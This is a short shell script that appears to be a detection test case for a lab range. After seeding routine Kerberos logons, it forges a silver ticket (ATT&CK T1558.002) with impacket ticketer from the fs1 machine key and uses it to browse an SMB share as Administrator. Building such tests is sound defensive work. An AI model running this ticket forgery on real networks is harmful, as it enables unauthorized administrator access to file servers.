# SPDX-License-Identifier: Apache-2.0
# what: a service ticket made with fs1's own key, after a morning of logons that were seen
# technique: T1558.002
# from: ws1
# to: fs1
# account: Administrator
# outcome: success
# must: finding krb
. "$RANGE_HERE/item.sh"
cd "$HOME"
for i in 1 2 3 4 5 6; do
	for u in alice bob carol dave frank; do
		at ws2 sh -c "echo '$USER_PASSWORD' | kinit $u
			kvno -q ldap/dc1.$DOMAIN_DNS
			smbclient //fs1.$DOMAIN_DNS/home --use-kerberos=required -N -c exit" || exit 1
	done
done
impacket ticketer -aesKey "$(aeskey 'FS1$')" -domain-sid "$(domain_sid)" -domain $DOMAIN_DNS \
	-spn cifs/fs1.$DOMAIN_DNS Administrator
printf 'use data\nls\nexit\n' >"$HOME/do"
export KRB5CCNAME="$HOME/Administrator.ccache"
says 'drw' impacket smbclient -k -no-pass -dc-ip $dc1 -file "$HOME/do" "$REALM/Administrator@fs1.$DOMAIN_DNS"
